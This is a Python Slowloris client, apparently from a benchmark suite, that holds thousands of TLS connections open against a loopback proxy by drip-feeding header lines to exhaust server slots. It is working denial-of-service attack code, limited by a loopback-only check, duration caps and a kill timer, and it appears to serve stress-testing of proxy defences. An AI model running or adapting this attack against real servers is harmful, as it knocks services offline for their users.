#!/usr/bin/env python3
"""Slowloris client for bench/slowloris.sh: holds N TLS connections open against a loopback proxy.

Each connection completes the TLS handshake, sends a partial request head
("GET / HTTP/1.1\\r\\nHost: x\\r\\n"), then one more header line ("X-a: b\\r\\n") every
--interval-min..--interval-max seconds, and never ends the head. A connection the server closes
(or answers, e.g. with 408) is counted and reopened, so the number held open stays at N.

Bounded: at most --connections connections (<= 20000), loopback addresses only, and the whole run
ends after --duration seconds (a SIGALRM backstop kills the process a few seconds later if the event
loop is stuck). stdlib only (asyncio + ssl).

Output on stdout, one line each, flushed:
  READY {json}     once all N connections are open at the same time (TLS done, partial head sent)
  WINDOW {json}    on SIGUSR2: stats since the last SIGUSR1 (or since READY)
  SUMMARY {json}   at exit: opened, currently_open, closed_by_server, errors, ...
Signals: SIGUSR1 starts a measurement window, SIGUSR2 ends it and prints WINDOW, SIGTERM/SIGINT
end the run (SUMMARY is still printed).
"""
import argparse
import asyncio
import ipaddress
import json
import os
import random
import resource
import signal
import socket
import ssl
import sys
import time

MAX_CONNECTIONS = 20000
HEAD = b"GET / HTTP/1.1\r\nHost: x\r\n"
LINE = b"X-a: b\r\n"


def emit(tag, obj):
    sys.stdout.write(tag + " " + json.dumps(obj, sort_keys=True) + "\n")
    sys.stdout.flush()


class Stats:
    def __init__(self):
        self.t0 = time.monotonic()
        self.attempts = 0          # connect attempts (TCP+TLS)
        self.opened = 0            # connections that completed TLS and sent the partial head
        self.open = 0              # currently open (TLS done, head sent, not closed)
        self.closed_by_server = 0  # EOF / reset / response from the server on an open connection
        self.server_responses = {}  # status line prefix -> count (e.g. "HTTP/1.1 408")
        self.reopened = 0          # opened again after the server closed one
        self.errors = 0            # connect / handshake failures, unexpected exceptions
        self.error_kinds = {}
        self.lines_sent = 0
        self.ready_at = None
        self.max_open = 0
        # measurement window
        self.w_start = None
        self.w_base = None
        self.w_min_open = None
        self.w_max_open = None

    def counters(self):
        return {"attempts": self.attempts, "opened": self.opened, "closed_by_server": self.closed_by_server,
                "reopened": self.reopened, "errors": self.errors, "lines_sent": self.lines_sent}

    def err(self, kind):
        self.errors += 1
        self.error_kinds[kind] = self.error_kinds.get(kind, 0) + 1

    def set_open(self, delta):
        self.open += delta
        self.max_open = max(self.max_open, self.open)
        if self.w_start is not None:
            self.w_min_open = min(self.w_min_open, self.open)
            self.w_max_open = max(self.w_max_open, self.open)

    def mark(self):
        self.w_start = time.monotonic()
        self.w_base = self.counters()
        self.w_min_open = self.open
        self.w_max_open = self.open

    def window(self):
        if self.w_start is None:
            self.mark()
        now = self.counters()
        d = {k: now[k] - self.w_base[k] for k in now}
        d.update({"seconds": round(time.monotonic() - self.w_start, 3), "min_open": self.w_min_open,
                  "max_open": self.w_max_open, "open_now": self.open})
        return d


async def hold(idx, args, ctx, stats, stop, sem, ready_evt):
    """One slot: keep one slowloris connection open until stop is set; reopen when closed."""
    was_closed = False
    backoff = 0.05
    while not stop.is_set():
        writer = None
        counted_open = False
        try:
            async with sem:  # bound concurrent handshakes (listen backlog, CPU)
                if stop.is_set():
                    return
                stats.attempts += 1
                reader, writer = await asyncio.wait_for(
                    asyncio.open_connection(args.host, args.port, ssl=ctx,
                                            server_hostname=args.sni or None,
                                            ssl_handshake_timeout=args.connect_timeout),
                    args.connect_timeout + 1)
                writer.write(HEAD)
                await asyncio.wait_for(writer.drain(), args.connect_timeout)
            stats.opened += 1
            if was_closed:
                stats.reopened += 1
            counted_open = True
            stats.set_open(+1)
            if stats.open >= args.connections:
                ready_evt.set()
            backoff = 0.05
            read_task = asyncio.ensure_future(reader.read(256))
            stop_task = asyncio.ensure_future(stop.wait())
            try:
                while True:
                    delay = random.uniform(args.interval_min, args.interval_max)
                    done, _ = await asyncio.wait({read_task, stop_task}, timeout=delay,
                                                 return_when=asyncio.FIRST_COMPLETED)
                    if stop_task in done:
                        return
                    if read_task in done:
                        data = b""
                        try:
                            data = read_task.result()
                        except (ConnectionError, ssl.SSLError, OSError):
                            pass
                        if data:
                            key = data.split(b"\r\n", 1)[0][:12].decode("ascii", "replace")
                            stats.server_responses[key] = stats.server_responses.get(key, 0) + 1
                        stats.closed_by_server += 1
                        was_closed = True
                        break
                    try:
                        writer.write(LINE)
                        await asyncio.wait_for(writer.drain(), 5)
                        stats.lines_sent += 1
                    except (ConnectionError, ssl.SSLError, OSError, asyncio.TimeoutError):
                        stats.closed_by_server += 1
                        was_closed = True
                        break
            finally:
                for t in (read_task, stop_task):
                    if not t.done():
                        t.cancel()
        except asyncio.CancelledError:
            raise
        except (asyncio.TimeoutError, TimeoutError):
            stats.err("connect_timeout")
        except ssl.SSLError as e:
            stats.err("ssl:" + (e.reason or type(e).__name__))
        except ConnectionRefusedError:
            stats.err("refused")
        except (ConnectionError, OSError) as e:
            stats.err(type(e).__name__)
        finally:
            if counted_open:
                stats.set_open(-1)
            if writer is not None:
                writer.transport.abort()  # no close_notify, no lingering: just drop it
        if not stop.is_set() and not counted_open:
            # failed attempt: back off (bounded), so a refusing server is not hammered
            try:
                await asyncio.wait_for(stop.wait(), backoff)
            except asyncio.TimeoutError:
                pass
            backoff = min(backoff * 2, 2.0)


async def main(args):
    stats = Stats()
    stop = asyncio.Event()
    ready_evt = asyncio.Event()
    sem = asyncio.Semaphore(args.concurrency)
    loop = asyncio.get_running_loop()

    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE  # loopback demo cert; the attack does not care who the server is
    ctx.minimum_version = ssl.TLSVersion.TLSv1_2

    loop.add_signal_handler(signal.SIGTERM, stop.set)
    loop.add_signal_handler(signal.SIGINT, stop.set)
    loop.add_signal_handler(signal.SIGUSR1, stats.mark)
    loop.add_signal_handler(signal.SIGUSR2, lambda: emit("WINDOW", stats.window()))

    slots = [asyncio.ensure_future(hold(i, args, ctx, stats, stop, sem, ready_evt))
             for i in range(args.connections)]
    deadline = stats.t0 + args.duration

    async def announce_ready():
        try:
            await asyncio.wait_for(ready_evt.wait(), args.ready_timeout)
        except asyncio.TimeoutError:
            emit("NOTREADY", {"open": stats.open, "wanted": args.connections, **stats.counters(),
                              "error_kinds": stats.error_kinds,
                              "seconds": round(time.monotonic() - stats.t0, 3)})
            stop.set()
            return
        stats.ready_at = time.monotonic() - stats.t0
        stats.mark()
        emit("READY", {"open": stats.open, "seconds": round(stats.ready_at, 3), **stats.counters()})

    ready_task = asyncio.ensure_future(announce_ready())
    try:
        await asyncio.wait_for(stop.wait(), max(0.0, deadline - time.monotonic()))
    except asyncio.TimeoutError:
        pass
    stop.set()
    open_at_stop = stats.open
    ready_task.cancel()
    # slots see stop and return; give them a bounded moment, then cancel the rest
    done, pending = await asyncio.wait(slots, timeout=3)
    for t in pending:
        t.cancel()
    if pending:
        await asyncio.wait(pending, timeout=2)
    out = {"opened": stats.opened, "currently_open": open_at_stop, "closed_by_server": stats.closed_by_server,
           "errors": stats.errors, "reopened": stats.reopened, "attempts": stats.attempts,
           "lines_sent": stats.lines_sent, "max_open": stats.max_open, "wanted": args.connections,
           "ready_after_s": None if stats.ready_at is None else round(stats.ready_at, 3),
           "server_responses": stats.server_responses, "error_kinds": stats.error_kinds,
           "seconds": round(time.monotonic() - stats.t0, 3)}
    emit("SUMMARY", out)
    return 0 if stats.ready_at is not None else 1


def parse():
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("--host", default="127.0.0.1", help="loopback address of the proxy (default 127.0.0.1)")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--sni", default="", help="TLS server name to send (default none)")
    p.add_argument("--connections", type=int, default=2000, help=f"connections to hold (1..{MAX_CONNECTIONS})")
    p.add_argument("--duration", type=float, required=True, help="hard time bound for the whole run, seconds")
    p.add_argument("--ready-timeout", type=float, default=60, help="give up if N are not open after this (s)")
    p.add_argument("--interval-min", type=float, default=5.0, help="min seconds between header lines")
    p.add_argument("--interval-max", type=float, default=10.0, help="max seconds between header lines")
    p.add_argument("--concurrency", type=int, default=64, help="concurrent handshakes in flight")
    p.add_argument("--connect-timeout", type=float, default=10.0, help="TCP+TLS+first write timeout (s)")
    a = p.parse_args()
    if not 1 <= a.connections <= MAX_CONNECTIONS:
        p.error(f"--connections must be in 1..{MAX_CONNECTIONS}")
    if not 0 < a.duration <= 3600:
        p.error("--duration must be in (0, 3600]")
    if not 0 < a.interval_min <= a.interval_max:
        p.error("need 0 < --interval-min <= --interval-max")
    if not 1 <= a.concurrency <= 1024:
        p.error("--concurrency must be in 1..1024")
    if not 1 <= a.port <= 65535:
        p.error("--port must be in 1..65535")
    try:
        addrs = {ai[4][0] for ai in socket.getaddrinfo(a.host, a.port, proto=socket.IPPROTO_TCP)}
    except socket.gaierror as e:
        p.error(f"cannot resolve {a.host}: {e}")
    if not addrs or not all(ipaddress.ip_address(x.split("%")[0]).is_loopback for x in addrs):
        p.error(f"{a.host} is not a loopback address ({', '.join(sorted(addrs))}); refusing")
    return a


if __name__ == "__main__":
    args = parse()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    need = args.connections + 256
    if soft < need:
        if hard != resource.RLIM_INFINITY and hard < need:
            sys.exit(f"slowloris: RLIMIT_NOFILE hard limit {hard} < {need} needed; raise ulimit -n")
        resource.setrlimit(resource.RLIMIT_NOFILE, (need, hard))
    # Backstop: if the event loop wedges, the kernel ends us a little after --duration.
    signal.signal(signal.SIGALRM, signal.SIG_DFL)
    signal.alarm(int(args.duration) + 15)
    sys.exit(asyncio.run(main(args)))
